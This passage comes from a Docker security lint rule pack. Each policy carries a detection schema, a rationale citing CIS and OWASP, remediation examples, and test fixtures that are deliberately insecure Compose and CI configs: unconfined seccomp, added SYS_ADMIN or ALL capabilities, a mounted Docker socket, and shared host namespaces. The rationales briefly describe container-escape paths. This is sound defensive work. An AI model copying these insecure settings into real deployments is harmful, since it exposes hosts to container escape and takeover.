true\\n","expect":[{"line":7,"column":11},{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      monitor:\\n        image: ghcr.io/example/monitor:1.0.0\\n        options: --cgroupns host\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cgroupns private\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/docker/container-cgroup-host.yaml"},{"id":"container-confinement-disabled","pack":"docker","title":"Container runs without seccomp, AppArmor or SELinux confinement","severity":"high","subject":"container","schema":{"properties":{"security_opt":{"items":{"not":{"pattern":{"$param":"disablingOptions"}}}}}},"message":"{{name}} switches off a kernel security layer with `{{value}}`, so an exploit inside it meets none of the system-call or mandatory-access-control filtering Docker applies by default. Remove the option; if the default profile blocks something the workload needs, write a custom profile that allows just that.","rationale":"Docker confines every container with a seccomp filter that blocks dangerous system calls, an AppArmor profile (`docker-default`) or an SELinux label, and masks sensitive `/proc` and `/sys` paths. These layers are what stop many kernel exploits and container escapes even when the process runs as root. `seccomp=unconfined`, `apparmor=unconfined`, `label=disable` and `systempaths=unconfined` each remove one of them for the whole container. The CIS Docker Benchmark and the OWASP cheat sheet ask that the default profiles stay on.","remediation":"Remove the option. If a system call or file access is genuinely needed, start from Docker\'s\\ndefault profile and allow only that:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - seccomp=./seccomp/app.json   # the default profile plus the one syscall needed\\n      - no-new-privileges=true\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.22"},{"framework":"cis-docker","id":"1.6.0:5.2"},{"framework":"cis-docker","id":"1.6.0:5.3"},{"framework":"owasp-docker","id":"RULE #6"},{"framework":"url","url":"https://docs.docker.com/engine/security/seccomp/"},{"framework":"url","url":"https://docs.docker.com/engine/security/apparmor/"}],"params":{"disablingOptions":"^(seccomp|apparmor|systempaths)=\\\\s*unconfined$|^label=\\\\s*disable$"},"paramSchemas":{"disablingOptions":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Security options that switch seccomp, AppArmor or SELinux confinement off. Matched against `security_opt` entries, which the container subject normalizes to `key=value` (`seccomp:unconfined` becomes `seccomp=unconfined`)."}},"tests":[{"file":"compose.yaml","content":"services:\\n  chrome:\\n    image: browserless/chrome:1.61\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp:unconfined\\n      - \\"apparmor=unconfined\\"\\n      - label:disable\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":27},{"line":7,"column":9},{"line":8,"column":9}]},{"file":"compose.yaml","content":"x-unconfined: &unconfined\\n  security_opt: [seccomp=unconfined]\\nservices:\\n  builder:\\n    <<: *unconfined\\n    image: moby/buildkit:v0.16.0\\n","expect":[{"line":2,"column":18}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp=./seccomp/app.json\\n      - apparmor=docker-default\\n      - label=type:svirt_apache_t\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  browser-tests:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: mcr.microsoft.com/playwright:v1.48.0-noble\\n      options: --security-opt seccomp=unconfined --ipc private\\n    steps:\\n      - run: npx playwright test\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --security-opt apparmor:unconfined \\\\\\n            --security-opt label=disable moby/buildkit:v0.16.0 --version\\n","expect":[{"line":7,"column":11},{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --security-opt no-new-privileges --security-opt seccomp=${{ inputs.profile }}\\n    steps:\\n      - run: docker run --rm --security-opt seccomp=/etc/docker/seccomp.json alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-confinement-disabled.yaml"},{"id":"container-dangerous-capability","pack":"docker","title":"Container adds a dangerous Linux capability","severity":"high","subject":"container","schema":{"properties":{"cap_add":{"items":{"not":{"enum":{"$param":"dangerousCapabilities"}}}}}},"message":"{{name}} adds the {{value}} capability, which lets a compromised process reach past the container into the host kernel. Remove it, or replace it with the narrow capability the workload actually needs after `cap_drop: [ALL]`.","rationale":"Docker starts containers with a short list of capabilities and withholds the ones that act on the whole machine. `ALL` and `SYS_ADMIN` come close to privileged mode (mounting filesystems, escaping through cgroups); `SYS_MODULE` loads kernel code; `SYS_PTRACE` reads and alters other processes; `DAC_READ_SEARCH` opens any host file by handle (the \\"shocker\\" escape); `SYS_RAWIO`, `SYS_BOOT` and `SYS_TIME` touch devices, reboots and the host clock; `NET_ADMIN` reconfigures interfaces, routes and firewall rules; `BPF` and `PERFMON` load and observe kernel programs; `MAC_ADMIN`/`MAC_OVERRIDE` change or bypass AppArmor and SELinux; `SYSLOG` and `LINUX_IMMUTABLE` affect host logs and file flags. The CIS Docker Benchmark and the OWASP cheat sheet both ask to add only the capabilities a workload needs; the list is the `dangerousCapabilities` parameter.","remediation":"Drop every capability and add back only the specific one the process needs:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nFor a workflow\'s `options:` or a `docker run`, write `--cap-drop ALL --cap-add NET_BIND_SERVICE`.\\nA VPN or network tool that truly needs `NET_ADMIN` belongs on a dedicated host, not next to\\napplication services.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"},{"framework":"url","url":"https://docs.docker.com/engine/security/#linux-kernel-capabilities"}],"params":{"dangerousCapabilities":["ALL","SYS_ADMIN","NET_ADMIN","SYS_MODULE","SYS_PTRACE","SYS_RAWIO","SYS_BOOT","SYS_TIME","DAC_READ_SEARCH","BPF","PERFMON","MAC_ADMIN","MAC_OVERRIDE","SYSLOG","LINUX_IMMUTABLE"]},"paramSchemas":{"dangerousCapabilities":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Capabilities that act on the whole host. Upper case, without the CAP_ prefix: the container subject normalizes `cap_sys_admin`, `CAP_SYS_ADMIN` and `SYS_ADMIN` to `SYS_ADMIN`."}},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    cap_add:\\n      - NET_BIND_SERVICE\\n      - CAP_sys_admin\\n      - net_admin\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":22},{"line":7,"column":9}]},{"file":"compose.yaml","content":"x-caps: &caps\\n  cap_add: [ALL]\\nservices:\\n  tool:\\n    <<: *caps\\n    image: alpine:3.20\\n","expect":[{"line":2,"column":13}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: golang:1.23\\n      options: --cap-add=SYS_PTRACE --cap-add CAP_NET_RAW\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --cap-add SYS_ADMIN --device /dev/fuse\\n    steps:\\n      - run: go test ./...\\n","expect":[{"line":7,"column":7},{"line":11,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: |\\n          docker run --rm --cap-add ALL alpine:3.20 true\\n          docker run --rm --cap-drop ALL --cap-add NET_BIND_SERVICE nginx:1.27\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":57}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        options: --cap-drop ALL --cap-add NET_BIND_SERVICE --cap-add ${{ matrix.cap }}\\n    steps:\\n      - run: docker run --rm --cap-add CHOWN alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-dangerous-capability.yaml"},{"id":"container-default-bridge-network","pack":"docker","title":"Container uses Docker\'s default bridge network","severity":"low","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"bridge"}}}},"message":"{{name}} is attached to the default `bridge` network (docker0), where every container can reach every other container started the same way, and names do not resolve. Remove `network_mode: bridge` so Compose puts it on the project\'s own network, or attach it to a user-defined network.","rationale":"The default bridge network is shared by every container started without a network: they can all talk to each other on any port, with no isolation between unrelated applications, and the network offers no DNS between containers (which encourages the deprecated `--link`). User-defined networks isolate groups of containers and resolve names. The CIS Docker Benchmark (5.30) asks that docker0 not be used; the OWASP cheat sheet (rule 5) asks to isolate containers with networks.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n```\\n\\nFor `docker run`, create a network once (`docker network create app`) and pass `--network app`.","references":[{"framework":"cis-docker","id":"1.6.0:5.30"},{"framework":"owasp-docker","id":"RULE #5"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/bridge/#differences-between-user-defined-bridges-and-the-default-bridge"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    network_mode: bridge\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --network bridge\\n    steps:\\n      - run: |\\n          docker run -d --net=bridge nginx:1.27\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker network create e2e\\n          docker run -d --network e2e nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-default-bridge-network.yaml"},{"id":"container-docker-socket","pack":"docker","title":"Docker socket mounted into a container","severity":"critical","subject":"container","schema":{"properties":{"use_api_socket":{"not":{"const":true}},"volumes":{"items":{"not":{"required":["source"],"properties":{"source":{"pattern":{"$param":"socketPaths"}}}}}}}},"message":"{{name}} mounts the Docker socket: any process in it can start a privileged container and so owns the host, and `:ro` does not prevent that. Remove the mount; if the service must talk to Docker, put an authorizing proxy in front of a TLS-protected daemon.","rationale":"The Docker daemon runs as root and its socket is its whole API. A container that can reach the socket can create a new container that is privileged and mounts the host\'s root filesystem, which is root on the host. Mounting the socket read-only changes nothing: API calls are writes to the socket whatever the mount mode. Compose\'s `use_api_socket: true` grants the same access.","remediation":"Remove the socket mount. If the service genuinely manages containers (a CI runner, a reverse\\nproxy that reads labels), run it against a socket proxy that allows only the API calls it needs,\\nor a rootless daemon, and never in a service that handles untrusted input.\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: traefik:v3.1\\n    # volumes:\\n    #   - /var/run/docker.sock:/var/run/docker.sock   # removed\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.32"},{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/#docker-daemon-attack-surface"}],"params":{"socketPaths":"^(/var)?/run/docker\\\\.sock/?$"},"paramSchemas":{"socketPaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is the Docker daemon socket."}},"tests":[{"file":"compose.yaml","content":"services:\\n  traefik:\\n    image: traefik:v3.1\\n    volumes:\\n      - ./traefik.yml:/etc/traefik/traefik.yml:ro\\n      - /var/run/docker.sock:/var/run/docker.sock:ro\\n","expect":[{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: portainer/agent:2.21\\n    volumes:\\n      - type: bind\\n        source: /run/docker.sock\\n        target: /var/run/docker.sock\\n","expect":[{"line":5,"column":9}]},{"file":"compose.yaml","content":"services:\\n  builder:\\n    image: docker:27-cli\\n    use_api_socket: true\\n","expect":[{"line":4,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./html:/usr/share/nginx/html:ro\\n      - cache:/var/cache/nginx\\nvolumes:\\n  cache: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: docker:27-cli\\n      options: -v /var/run/docker.sock:/var/run/docker.sock\\n    steps:\\n      - run: docker ps\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n    steps:\\n      - run: npm ci\\n","expect":[]}],"source":"policies/docker/container-docker-socket.yaml"},{"id":"container-host-device","pack":"docker","title":"Host device exposed to a container","severity":"medium","subject":"container","schema":{"properties":{"devices":{"items":false}}},"message":"{{name}} is given the host device `{{value}}`, so processes in it talk to that hardware or kernel interface directly, outside the container\'s isolation. Remove the device unless the service truly drives it, and then pass only that one device with the narrowest permissions (`:r` or `:rw`, not `:rwm`).","rationale":"A device node is a direct line into a kernel driver. Block devices expose the host\'s disks (mount `/dev/sda1` and read or change the host\'s files), `/dev/mem` and `/dev/kmsg` expose kernel memory and logs, and even a FUSE or GPU device widens the kernel attack surface that a compromised process can reach. The CIS Docker Benchmark (5.18) asks that host devices not be exposed to containers directly, and that when one must be, its permissions be limited.","remediation":"Remove the device. If the workload genuinely needs one (a GPU, a serial adapter), pass exactly\\nthat device, read-only where possible, and keep the service on a dedicated host:\\n\\n```yaml\\nservices:\\n  reader:\\n    image: ghcr.io/example/serial-reader:1.0.0\\n    devices:\\n      - \\"/dev/ttyUSB0:/dev/ttyUSB0:r\\"   # this one device, no mknod\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.18"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#device"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: ghcr.io/example/backup:3.1.0\\n    devices:\\n      - /dev/sda:/dev/xvda:rwm\\n      - source: /dev/fuse\\n        target: /dev/fuse\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":31},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    devices: []\\n    volumes:\\n      - ./dev:/srv/dev\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --device /dev/fuse\\n    steps:\\n      - run: |\\n          docker run --rm --device=/dev/kvm ghcr.io/example/emulator:2.0.0 boot\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2 --device ${{ matrix.device }}\\n    steps:\\n      - run: docker run --rm alpine:3.20 ls /dev\\n","expect":[]}],"source":"policies/docker/container-host-device.yaml"},{"id":"container-host-namespace","pack":"docker","title":"Container shares the host\'s PID, IPC, UTS or user namespace","severity":"high","subject":"container","schema":{"properties":{"pid":{"not":{"const":"host"}},"ipc":{"not":{"const":"host"}},"uts":{"not":{"const":"host"}},"userns_mode":{"not":{"const":"host"}}}},"message":"{{name}} sets `{{key}}: host`, so it shares that namespace with the host and can see or affect what runs outside the container. Remove the setting so the container keeps its own namespace.","rationale":"Namespaces are what make a container a container. Sharing the host\'s PID namespace lets its processes list, signal and (with `SYS_PTRACE`) inspect every process on the host, including their environment and secrets; sharing IPC exposes the host\'s shared memory segments and semaphores; sharing UTS lets it change the host\'s hostname; and `userns_mode: host` switches off user-namespace remapping, so root in the container is root on the host again. The CIS Docker Benchmark asks that none of these namespaces be shared with the host.","remediation":"Remove the setting so that Docker gives the container its own namespace. To share a namespace\\nbetween cooperating containers, share it with that container rather than with the host:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  debugger:\\n    image: ghcr.io/example/debug-tools:2.0.1\\n    pid: \\"service:app\\"   # not \\"host\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--pid host`, `--ipc host`, `--uts host`\\nand `--userns host`.","references":[{"framework":"cis-docker","id":"1.6.0:5.16"},{"framework":"cis-docker","id":"1.6.0:5.17"},{"framework":"cis-docker","id":"1.6.0:5.21"},{"framework":"cis-docker","id":"1.6.0:5.31"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pid"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: datadog/agent:7.57.0\\n    pid: host\\n    ipc: host\\n    uts: host\\n    userns_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":14},{"line":5,"column":5},{"line":6,"column":5},{"line":7,"column":5,"endLine":7,"endColumn":22}]},{"file":"compose.yaml","content":"x-debug: &debug\\n  pid: \\"host\\"\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  tools:\\n    <<: *debug\\n    image: ghcr.io/example/debug-tools:2.0.1\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ipc: shareable\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    ipc: \\"service:app\\"\\n    pid: \\"service:app\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ubuntu:24.04\\n      options: --pid=host --ipc host\\n    steps:\\n      - run: ps aux\\n","expect":[{"line":7,"column":7},{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          set -eu\\n          docker run --rm \\\\\\n            --userns=host \\\\\\n            ubuntu:24.04 id\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --pid private --hostname app\\n    steps:\\n      - run: docker run --rm --pid container:app ubuntu:24.04 ps\\n","expect":[]}],"source":"policies/docker/container-host-namespace.yaml"},{"id":"container-host-network","pack":"docker","title":"Container uses the host\'s network namespace","severity":"high","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"host"}}}},"message":"{{name}} uses the host\'s network stack instead of its own: it can reach every service bound to the host\'s localhost and every host interface, and anything it listens on is exposed on the host directly. Remove the host network mode and publish only the ports it serves, e.g. `ports: [\\"127.0.0.1:8080:8080\\"]`.","rationale":"With the host network mode the container gets no network namespace of its own. It sees and can use all of the host\'s interfaces, can connect to daemons that listen only on the host\'s loopback address (metadata endpoints, databases, the Docker API on TCP), can sniff traffic with `NET_RAW`, and bypasses the isolation and firewall rules Docker sets up for bridge networks. The CIS Docker Benchmark asks that the host\'s network namespace never be shared with a container.","remediation":"Drop the host network mode, let the container use its own (user-defined bridge) network, and\\npublish only the ports that must be reachable, bound to a specific address:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    # network_mode: host   # removed\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--network host` / `--net=host` and use\\n`-p 127.0.0.1:8080:8080` instead.","references":[{"framework":"cis-docker","id":"1.6.0:5.10"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/host/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  metrics:\\n    image: prom/node-exporter:v1.8.2\\n    network_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":23}]},{"file":"compose.yaml","content":"x-hostnet: &hostnet\\n  network_mode: \\"host\\"\\nservices:\\n  sniffer:\\n    <<: *hostnet\\n    image: nicolaka/netshoot:v0.13\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    networks: [front]\\n  sidecar:\\n    image: envoyproxy/envoy:v1.31.0\\n    network_mode: \\"service:web\\"\\nnetworks:\\n  front: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --net=host --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - name: Start the app\\n        run: |\\n          docker network create e2e\\n          docker run -d --name app --network host ghcr.io/example/app:1.4.2\\n","expect":[{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --network ${{ matrix.network }}\\n    steps:\\n      - run: docker run -d --network e2e -p 127.0.0.1:8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-host-network.yaml"},{"id":"container-mount-propagation-shared","pack":"docker","title":"Mount uses shared propagation","severity":"medium","subject":"container","schema":{"properties":{"volumes":{"items":{"properties":{"propagation":{"not":{"enum":{"$param":"sharedModes"}}}}}}}},"message":"{{name}} has a mount with `{{value}}` propagation, so mounts made inside the container appear on the host (and in other containers sharing it) and the other way round. Remove the propagation option (the default is `rprivate`) or use `rslave` if the container only needs to see host mounts.","rationale":"With shared propagation a mount made inside the container is propagated to the host\'s mount namespace and to every other container that shares the mount, which lets a container change what the host sees under that path. The CIS Docker Benchmark (5.20) asks that mount propagation not be set to shared. `rslave` gives the container the host\'s new mounts without sending its own back.","remediation":"```yaml\\nservices:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - type: bind\\n        source: /mnt/data\\n        target: /data\\n        bind:\\n          propagation: rslave   # not shared / rshared\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.20"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/#configure-bind-propagation"}],"params":{"sharedModes":["shared","rshared"]},"paramSchemas":{"sharedModes":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Bind propagation modes that let mounts made inside the container appear on the host."}},"tests":[{"file":"compose.yaml","content":"services:\\n  csi:\\n    image: ghcr.io/example/csi-driver:1.2.0\\n    volumes:\\n      - /mnt/data:/data:rshared\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: shared\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":32},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - /mnt/data:/data:ro,rslave\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: rprivate\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      options: --mount type=bind,source=/mnt,target=/mnt,bind-propagation=rshared\\n    steps:\\n      - run: |\\n          docker run --rm -v /srv:/srv:shared alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      volumes:\\n        - /mnt:/mnt:rslave\\n    steps:\\n      - run: docker run --rm -v /srv:/srv:ro alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-mount-propagation-shared.yaml"},{"id":"container-no-cpu-limit","pack":"docker","title":"Compose service has no CPU limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["cpus"]},"message":"{{name}} has no CPU limit, so a busy loop or a flood of requests in it can starve every other container on the host. Set `cpus:` (or `deploy.resources.limits.cpus`), e.g. `cpus: 1.0`.","rationale":"By default every container competes for all of the host\'s CPUs with equal weight. A service that is attacked or stuck in a loop slows everything else down, including health checks and the Docker daemon. A limit keeps one service\'s problem its own. The CIS Docker Benchmark (5.12) and the OWASP cheat sheet (rule 7) ask that CPU use be limited or prioritized. Informational by default: on a host that runs one service, a limit matters less.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.0        # or deploy.resources.limits.cpus: \\"1.0\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.12"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/#cpu"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    mem_limit: 512m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 0.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          cpus: \\"2\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-cpu-limit.yaml"},{"id":"container-no-healthcheck","pack":"docker","title":"Compose service has no health check","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"{{name}} has no working health check, so Docker reports it as running while it hangs or serves errors, and `depends_on: condition: service_healthy` cannot wait for it. Add a `healthcheck:` (or a HEALTHCHECK in its Dockerfile) that probes the service, e.g. `test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]`.","rationale":"A container whose main process is alive is not necessarily a service that works. A health check lets Docker, Compose and orchestrators notice a deadlocked or degraded container, restart it or keep traffic and dependants away from it, and it turns silent failures (including some denial of service) into visible ones. The CIS Docker Benchmark asks for a HEALTHCHECK in images (4.6) and for container health to be checked at run time (5.27). Informational by default: many services are watched from outside instead.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    healthcheck:\\n      test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]\\n      interval: 30s\\n      timeout: 5s\\n      retries: 3\\n```\\n\\nImages without a shell or wget can ship a small probe binary, or define the HEALTHCHECK in the\\nDockerfile.","references":[{"framework":"cis-docker","id":"1.6.0:5.27"},{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      disable: true\\n  cache:\\n    image: redis:7.4\\n    healthcheck:\\n      test: [\\"NONE\\"]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":7,"column":7,"endLine":7,"endColumn":20},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      test: [\\"CMD-SHELL\\", \\"pg_isready -U postgres\\"]\\n      interval: 10s\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --no-healthcheck\\n    steps:\\n      - run: docker run -d nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-no-healthcheck.yaml"},{"id":"container-no-memory-limit","pack":"docker","title":"Compose service has no memory limit","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["mem_limit"]},"message":"{{name}} has no memory limit, so a leak or a crafted request can exhaust the host\'s memory and take every other container down with it. Set `mem_limit:` (or `deploy.resources.limits.memory`) to what the service needs, e.g. `mem_limit: 512m`.","rationale":"By default a container may use all of the host\'s memory. One misbehaving or attacked service then pushes the host into swapping or wakes the kernel\'s OOM killer, which may kill a different, more important process. A limit confines the damage to the service that caused it and makes capacity planning possible. The CIS Docker Benchmark (5.11) and the OWASP cheat sheet (rule 7) ask that every container\'s memory be limited.","remediation":"Set a limit with headroom above the service\'s normal use:\\n\\n```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n          cpus: 